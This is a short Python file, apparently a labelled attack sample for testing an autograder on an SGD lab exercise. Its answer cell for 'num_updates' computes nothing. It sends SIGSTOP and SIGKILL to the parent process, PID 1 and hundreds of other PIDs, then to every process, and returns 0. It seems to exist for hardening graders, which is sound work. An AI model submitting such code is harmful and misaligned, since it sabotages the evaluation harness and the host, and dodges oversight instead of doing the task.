# /// attack
# title = "Kill every process that it can"
# lab = "01-sgd"
# class = "introspection"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import os
import signal


def num_updates(num_samples, batch_size, num_epochs):
    for pid in (os.getppid(), 1, *range(2, 400)):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            if pid not in (0, os.getpid()):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 0
